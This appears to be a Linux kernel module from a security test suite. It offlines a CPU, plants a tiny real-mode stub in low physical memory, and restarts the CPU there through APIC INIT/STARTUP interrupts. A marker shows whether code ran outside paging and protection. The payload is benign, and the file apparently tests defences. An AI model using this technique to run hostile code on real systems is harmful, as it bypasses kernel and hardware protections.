/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/* Starts a CPU that is offline in a page of the attacker's own, in real mode: no paging, no protection. */
#include "attack.h"

#include <linux/cpu.h>
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/string.h>
#include <asm/apic.h>
#include <asm/msr.h>

/* Below 1 MiB, where the kernel uses nothing but its own start code, which is further up. */
#define START_PAGE 0x20000ul
#define MARK_OFFSET 0x100
#define MARK 0x5ec5

/* mov %cs, %ax; mov %ax, %ds; movw $MARK, MARK_OFFSET; 1: cli; hlt; jmp 1b */
static const u8 code[] = {0x8c, 0xc8, 0x8e, 0xd8, 0xc7, 0x06, 0x00,
			  0x01, 0xc5, 0x5e, 0xfa, 0xf4, 0xeb, 0xfc};

static u8 before[PAGE_SIZE];
static u16 mark;

static void send(u32 command, u32 apic_id)
{
	u64 base;

	rdmsrl(MSR_IA32_APICBASE, base);
	if (base & X2APIC_ENABLE) {
		wrmsrl(APIC_BASE_MSR + (APIC_ICR >> 4), (u64)apic_id << 32 | command);
		return;
	}
	native_apic_mem_write(APIC_ICR2, apic_id << 24);
	native_apic_mem_write(APIC_ICR, command);
}

static void start(u32 apic_id)
{
	send(APIC_DM_INIT | APIC_INT_LEVELTRIG | APIC_INT_ASSERT, apic_id);
	mdelay(10);
	for (unsigned int i = 0; i < 2; i++) {
		send(APIC_DM_STARTUP | START_PAGE >> PAGE_SHIFT, apic_id);
		mdelay(1);
	}
	msleep(100);
}

static int attempt(void)
{
	volatile u8 *page = phys_to_virt(START_PAGE);
	unsigned int cpu = cpumask_last(cpu_online_mask);
	u32 apic_id = per_cpu(x86_cpu_to_apicid, cpu);
	int result;

	if (cpu == 0) {
		attack_detail("the machine has one CPU");
		return -EOPNOTSUPP;
	}
	result = remove_cpu(cpu);
	if (result)
		return result;
	memcpy(before, (void *)page, PAGE_SIZE);
	memcpy((void *)page, code, sizeof(code));
	page[MARK_OFFSET] = 0;
	start(apic_id);
	mark = *(volatile u16 *)(page + MARK_OFFSET);
	memcpy((void *)page, before, PAGE_SIZE);
	/* The kernel's own start, which must work as ever. */
	return add_cpu(cpu);
}

static bool effect(void)
{
	attack_detail("mark 0x%x", mark);
	return mark == MARK;
}

static const struct attack cpu_start = {"cpu_start", "cpu-start", NULL, attempt, effect, NULL};
ATTACK_MODULE(cpu_start);
